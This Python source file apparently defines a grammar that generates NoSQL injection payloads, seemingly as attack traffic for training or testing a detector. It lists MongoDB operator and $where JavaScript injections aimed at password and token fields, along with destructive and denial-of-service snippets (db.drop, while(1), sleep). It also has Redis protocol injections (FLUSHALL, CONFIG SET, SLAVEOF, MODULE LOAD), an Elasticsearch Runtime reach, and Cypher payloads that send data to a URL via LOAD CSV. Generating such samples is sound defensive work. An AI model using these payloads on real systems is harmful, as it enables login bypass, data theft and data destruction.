"""NoSQL injection: operators where a value was expected, and JavaScript or commands inside strings.

Operators after the MongoDB manual; Redis, CouchDB, Elasticsearch and Cassandra after theirs.
"""

from traffic.grammars.attacks.pieces import Grammar, Symbols, after_value

# Tables: as many alternatives to a line as fit.
# fmt: off
# No search filters by these: an operator there is an attack, whatever its value.
SECRETS = (
    "password", "password", "password", "pass", "passwd", "pwd", "token", "token", "pin", "otp",
    "secret", "reset_token", "resetToken", "passcode", "api_key", "apiKey", "access_token",
    "user.password", "newPassword", "password_hash", "csrf", "auth_token",
)
# Searches filter by these too (traffic.grammars.hard_negatives.query_more).
PUBLIC = (
    "price", "status", "createdAt", "created_at", "date", "age", "score", "total", "rating",
    "_id", "id", "user", "email", "name", "author", "title", "category", "size", "year", "amount",
    "‹id›", "‹id›.‹id›", "tags", "quantity", "product",
)

_SYMBOLS: Symbols = {
    "f": (
        "username", "username", "login", "login", "role", "‹secret›", "‹secret›", "‹secret›",
        "‹secret›", "‹id›.‹secret›", "isAdmin", "user.name",
    ),
    "secret": SECRETS,
    "open": PUBLIC,
    "cmp": (
        "$ne", "$ne", "$gt", "$gt", "$gte", "$lt", "$lte", "$nin", "$exists", "$regex", "$eq",
        "$not", "$in", "$type", "$size", "$all",
    ),
    "v": (
        "null", '""', "1", "-1", '"‹rnd›"', "‹n›", "true", '"^‹abc›"', '".*"', "[]", '["‹name›"]',
        '"admin"', "{}", '"^.{‹d›}$"', "undefined", '"‹id›"',
    ),
    "opv": (
        "‹bare›", "‹bare›", '{"‹cmp›":‹v›}', '{ "‹cmp›": ‹v› }', '{"$regex":"^‹abc›"}',
        '{"$regex":".*","$options":"i"}', '{"$in":["admin","‹name›","‹rnd›"]}',
        '{"$exists":true}', "{$gt:''}",
    ),
    # Under a name that a search has too, the operator and its value must say it.
    "bare": (
        '{"$ne":‹v›}', '{"$ne":‹v›}', '{"$gt":""}', '{"$regex":".*","$options":"i"}',
        '{"$nin":["‹name›"]}', '{"$not":{"$eq":‹v›}}', "{$ne:‹v›}", "{'$ne':'‹rnd›'}",
        '{"$regex":"^.{‹n8›}$"}', '{"$regex":".*"}', '{"$regex":"^(?!‹abc›)"}',
    ),
    "odd": (
        '{"$regex":".*"}', '{"$regex":".{‹n8›}"}', '{"$regex":"^(?!‹abc›)"}', '{"$ne":"‹rnd›"}',
        '{"$where":"‹js›"}', '{"$not":{"$eq":"‹rnd›"}}', '{"$nin":["‹rnd›"]}', "{$gt:''}",
        '{"$gt":"","$regex":".+"}', "{'$ne':'‹rnd›'}", '{"$not":{"$regex":"^‹abc›$"}}',
    ),
    "sop": ("$ne", "$ne", "$gt", "$gt", "$regex", "$exists", "$gte", "$nin", "$not", "$lt", "$in"),
    "so": (
        '{"$ne":""}', '{"$ne":null}', '{"$ne":"‹rnd›"}', '{"$gt":""}', '{"$gt":""}', '{"$gte":""}',
        '{"$regex":"^‹abc›"}', '{"$regex":".{‹n8›}"}', '{"$exists":true}', '{"$nin":["‹rnd›"]}',
        '{"$lt":"~"}', '{"$not":{"$eq":"‹rnd›"}}', '{"$in":["‹rnd›","‹n›"]}', '{"$ne":‹n›}',
        '{ "$gt": "" }', '{"$regex":"^.{‹n8›}$"}',
    ),
    "js": (
        "1==1", "this.‹f›.match(/^‹abc›/)", "sleep(‹n›)", "sleep(‹d›000)", "return true",
        "this.‹f›=='‹name›'", "this.‹f›.length>‹d›", "function(){return ‹n#1›==‹n#1›}",
        "Object.keys(this)[‹d›].match('^.{‹d›}‹abc›.*')", "this.‹f›[‹d›]=='‹abc›'",
        "db.‹id›.find()", "while(1){}", "function(){sleep(‹n›);return 1}",
        "var d=new Date();do{c=new Date();}while(c-d<‹n›)", "db.‹id›.drop()", "this.‹f›!=''",
        "'‹abc#1›'=='‹abc#1›'", "tojson(this)[0]=='{'", "emit(1,1)",
    ),
    "tail": (
        "//", "//+%00", "%00", "\x00", "'", "<!--", "", "/*", "//‹rnd›", ";//", "||'‹abc›'=='‹abc›",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)
_BEHIND = Grammar(_SYMBOLS, finish=after_value(0.45))

RULES = {
    **_GRAMMAR.rules(
        operator=(
            "‹bare›", "‹bare›", '{"‹f›":‹opv›}', '{"‹f›":{"‹cmp›":‹v›,"‹cmp›":‹v›}}', "[‹bare›]",
            '{"‹f›":‹opv›,"‹f›":‹v›}',
        ),
        public_name=(
            '{"‹open›":‹odd›}', '{"‹open›":‹odd›}', '{"‹open›":‹odd›,"‹open›":‹odd›}',
            '{"filter":{"‹open›":‹odd›}}', "‹open›[$regex]=.*", "‹open›[$ne]=‹rnd›",
            "‹open›[$where]=‹js›", '{"$or":[{},{"‹open›":"‹rnd›"}]}', "‹open›[$nin][]=‹rnd›",
            "‹open›[$regex]=^.{‹n8›}",
        ),
        secret_name=(
            '{"‹secret›":‹so›}', '{"‹secret›":‹so›}', '{"‹secret›":‹so›}',
            '{"‹id›":{"‹secret›":‹so›}}',
            '{"‹login¦user¦username¦email›":"‹name›","‹secret›":‹so›}',
            '{"‹login¦user¦username¦email›":{"$ne":null},"‹secret›":‹so›}',
            "‹secret›[‹sop›]=", "‹secret›[‹sop›]=‹rnd›", "‹secret›[$regex]=^‹abc›",
            "‹login¦user¦username¦email›=‹name›&‹secret›[‹sop›]=‹abc?›", "?‹secret›[‹sop›]=1",
        ),
        login=(
            '{"username":‹opv›,"password":‹opv›}',
            '{"‹email¦user¦login›":"‹name›","‹password¦pass¦pwd›":‹opv›}',
            '{"‹f›": ‹opv›, "‹f›": ‹opv›}', '{"username":{"$eq":"admin"},"password":‹opv›}',
            '{"$or":[{"‹f›":"‹name›"},{"‹f›":‹opv›}]}',
        ),
        bracket=(
            "[$ne]=‹rnd›", "‹f›[‹cmp›]=‹rnd›", "‹f›[‹cmp›]=",
            "‹f›[‹cmp›]=‹name›&‹f›[‹cmp›]=‹rnd›", "?‹f›[‹cmp›]=‹n›", "‹f›[$regex]=^‹abc›.*",
            "‹f›[$in][]=‹name›&‹f›[$in][]=admin", "‹f›[‹cmp›]", "‹f›%5B‹cmp›%5D=‹n›",
            "‹f›[$where]=‹js›", "&‹f›[$nin][]=‹name›", "[$or][‹d›][‹f›]=‹rnd›",
            "‹f›[$gt]=&‹f›[$ne]=‹abc›",
        ),
        where=(
            '{"$where":"‹js›"}', "{$where:'‹js›'}", "$where: '‹js›'",
            '{"‹f›":"‹name›","$where":"‹js›"}',
            '{"$where":"function(){return this.‹f›==\'‹name›\'}"}', "[$where]=‹js›",
            '{"$expr":{"$function":{"body":"function(){‹js›}","args":[],"lang":"js"}}}',
            '{"$func":"var_dump","‹f›":‹n›}', "db.eval('‹js›')",
        ),
        aggregate=(
            '[{"$lookup":{"from":"‹id›","localField":"‹f›","foreignField":"‹f›","as":"‹abc›"}}]',
            '{"$or":[{},{"‹f›":"‹rnd›"}]}',
            '{"mapreduce":"‹id›","map":"function(){‹js›}","reduce":"function(k,v){return 1}"}',
            '{"$accumulator":{"init":"function(){‹js›}"}}', '{"‹f›":{"$elemMatch":‹opv›}}',
            '[{"$unionWith":"‹id›"},{"$match":{"‹f›":‹opv›}}]',
            '{"$and":[{"‹f›":‹opv›},{"$where":"‹js›"}]}',
            '{"selector":{"‹secret›":{"$gt":null}},"‹id›":‹n›}',
        ),
        other_stores=(
            "\r\nFLUSHALL\r\n‹rnd›", "\r\nCONFIG SET dir /var/www/‹id›\r\n",
            'EVAL "‹return redis.call(\'keys\',\'*\')¦os.execute(\'id\')›" ‹d›',
            '\r\nSET ‹id› "‹rnd›"\r\nQUIT\r\n', "%0d%0aset%20‹id›%200%20‹n›%20‹d›%0d%0a‹rnd›",
            "*1\r\n$8\r\nFLUSHALL\r\n*3\r\n$3\r\nset\r\n$‹d›\r\n‹abc›\r\n",
            "' ALLOW FILTERING;%00‹abc›",
            '{"script_fields":{"‹abc›":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtim'
            'e\\")"}}}',
            "SLAVEOF ‹ip› ‹port›\r\n", "MODULE LOAD /tmp/‹id›.so",
            "' RETURN ‹abc#1› UNION MATCH (‹abc#1›) DETACH DELETE ‹abc#1›//",
            "'}) RETURN ‹abc#1› UNION CALL db.labels() YIELD label AS ‹abc#1› RETURN ‹abc#1›//",
            "' OR 1=1 WITH 1 AS a CALL dbms.procedures() YIELD name LOAD CSV FROM '‹url›'+name AS "
            "l RETURN 0//",
        ),
    ),
    **_BEHIND.rules(
        string_breakout=(
            "' || '1'=='1", "' || '‹abc#1›'=='‹abc#1›‹tail›", "'||'‹d#1›'=='‹d#1›",
            "' && this.‹f›.match(/‹abc›.*/)‹tail›", "'; return '‹abc#1›' == '‹abc#1›",
            "' || ‹js›‹tail›", '" || ‹js› || "', "';‹js›;var ‹abc›='‹abc›",
            "'; sleep(‹n›); var ‹abc›='", "' && ‹n›==‹n› && '‹abc#1›'=='‹abc#1›",
            '"; return true; var ‹abc›="', "'});db.‹id›.‹drop¦insert¦find›({});//",
            "', $or: [ {}, { '‹abc›':'‹abc›", '", $where: "‹js›", $comment: "‹abc›',
            "', $or:[{},{'‹f›':'‹abc›'}],$comment:'‹rnd›",
            "' || this.‹f›.length > 0 || '‹abc#1›'!='‹abc#1›",
        ),
        javascript=(
            ";‹js›;‹rnd›", "0;‹js›", "1;return true//‹rnd›", "';‹js›//", "true, $where: '‹js›'",
            "', $where: '‹js›", ",$where:‹js›", "'+‹js›+'", "1 || ‹n#1›==‹n#1›;‹tail›",
            "');‹js›;//",
        ),
    ),
}
